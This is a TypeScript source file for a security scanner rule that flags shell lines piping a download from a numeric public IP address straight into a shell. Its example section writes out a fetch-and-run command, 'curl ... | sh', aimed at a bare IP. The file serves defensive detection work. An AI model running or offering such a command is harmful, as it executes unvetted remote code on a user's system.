import type { Detector } from '../../detector.ts';
import { isBare } from '../../helpers/sending/bareHosts.ts';
import { addressesIn } from '../../helpers/sending/hosts.ts';
import { commandLinesOf, placesByLine } from '../../helpers/text/lines.ts';
import { withoutWarnings } from '../../helpers/text/warnings.ts';
import { runOfDownload } from './pipe-to-shell.ts';

export const codeFromBareAddress: Detector = {
  id: 'code-from-bare-address',
  severity: 'critical',
  consequence: 'quarantine',
  isTaught: true,
  summary: 'What a server without a name sends is run.',
  explanation:
    'A download that goes straight into an interpreter is as good as its source, and a public address that has only a number ' +
    'is nobody’s: no maker of a tool hands it out that way, and thieves do. Reported is a line that does both. Addresses of ' +
    'this machine, private networks, documentation and well-known name servers are left out, and so are code spans that their ' +
    'sentence forbids. Fetch from a server with a name.',
  examples: {
    bad: { path: 'setup.sh', text: 'curl -s http://93.184.216.34:8080/ | sh\n' },
    good: { path: 'setup.sh', text: 'curl -s http://192.168.1.10/ | sh\n' },
  },
  inspect: (file) => (mayRun.test(file.text) ? placesByLine(withoutWarnings(file), messageFor, commandLinesOf) : []),
};

const mayRun = /https?:\/\/(?:[^\s/@]{0,60}@)?(?:\d|0x)/i;

function messageFor(line: string): string | undefined {
  if (!mayRun.test(line) || runOfDownload(line) === undefined) return undefined;
  for (const { host } of addressesIn(line)) if (isBare(host)) return 'What a server without a name sends is run.';
  return undefined;
}
